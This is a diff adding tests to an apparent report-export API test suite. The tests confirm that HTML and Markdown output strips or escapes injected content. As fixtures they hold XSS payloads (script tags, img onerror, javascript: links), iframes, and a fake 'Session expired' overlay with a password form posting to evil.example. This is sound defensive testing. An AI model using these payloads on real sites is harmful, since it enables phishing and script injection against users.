@@ -1,4 +1,5 @@
 import type { TEditionTree, TItemContentInput } from '@srt/contracts';
+import { marked } from 'marked';
 import TestAgent from 'supertest/lib/agent';
 import { startTestApp, type TestApp } from '../support/test-app';
 
@@ -304,6 +305,72 @@ describe('coverage, document and diff', () => {
     const html = await delegate.get(`/api/v1/report/editions/${edition.id}/document`).expect(200);
     expect(html.text).toContain('<strong>bold</strong>');
     expect(html.text).not.toMatch(/<script>alert|onerror/);
+  });
+
+  it('keeps styles, forms and frames in section text out of the HTML document', async () => {
+    const edition = await newEdition('Test edition E2');
+    const chapter = (
+      await secretariat.post(`/api/v1/report/editions/${edition.id}/chapters`).send({ title: 'Overlay' }).expect(201)
+    ).body;
+    await secretariat
+      .post(`/api/v1/report/editions/${edition.id}/sections`)
+      .send({
+        chapterId: chapter.id,
+        title: 'Hostile styles',
+        intro:
+          '<div style="position:fixed;inset:0;background:white">Session expired</div>\n\n' +
+          '<form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>\n\n' +
+          '[sign in again](javascript:alert(1)) [docs](https://example.org)',
+      })
+      .expect(201);
+    const html = (await delegate.get(`/api/v1/report/editions/${edition.id}/document`).expect(200)).text;
+    const main = html.slice(html.indexOf('<main>'));
+    expect(main).toContain('Session expired');
+    expect(main).not.toMatch(/style=|<form|<input|<iframe|javascript:/i);
+    expect(main).toContain('<a href="https://example.org" rel="noopener noreferrer">docs</a>');
+  });
+
+  it('writes titles, summaries and notes into the Markdown document as plain text', async () => {
+    const edition = await newEdition('Edition <script>alert(1)</script>');
+    const chapter = (
+      await secretariat
+        .post(`/api/v1/report/editions/${edition.id}/chapters`)
+        .send({ title: '<img src=x onerror=alert(1)>' })
+        .expect(201)
+    ).body;
+    const hostileSection = (
+      await secretariat
+        .post(`/api/v1/report/editions/${edition.id}/sections`)
+        .send({ chapterId: chapter.id, title: '[sign in](javascript:alert(1))' })
+        .expect(201)
+    ).body;
+    const reference = await itemIn('ACCEPTED', '**Bold** <script>alert(2)</script> title');
+    await testApp.query('UPDATE item SET summary = $2 WHERE reference = $1', [
+      reference,
+      '# Heading?\n<iframe src="https://evil.example"></iframe>',
+    ]);
+    await secretariat
+      .post(`/api/v1/report/sections/${hostileSection.id}/traces`)
+      .send({ itemRef: reference, note: '![pixel](https://evil.example/p.png) _note_' })
+      .expect(201);
+    const markdown = (await delegate.get(`/api/v1/report/editions/${edition.id}/document?format=md`).expect(200)).text;
+    const rendered = marked.parse(markdown, { async: false }) as string;
+    expect(rendered).not.toMatch(/<script|<img|<iframe|href="javascript|<h\d>Heading/i);
+    const text = rendered
+      .replace(/<[^>]+>/g, '')
+      .replace(/&lt;/g, '<')
+      .replace(/&gt;/g, '>')
+      .replace(/&amp;/g, '&');
+    for (const written of [
+      'Edition <script>alert(1)</script>',
+      '<img src=x onerror=alert(1)>',
+      '[sign in](javascript:alert(1))',
+      '**Bold** <script>alert(2)</script> title',
+      '# Heading?',
+      '<iframe src="https://evil.example"></iframe>',
+      '![pixel](https://evil.example/p.png) _note_',
+    ])
+      expect(text.replace(/&quot;/g, '"')).toContain(written);
   });
 
   it('diffs the seeded editions: the added chapter, and items added, removed and moved per section', async () => {
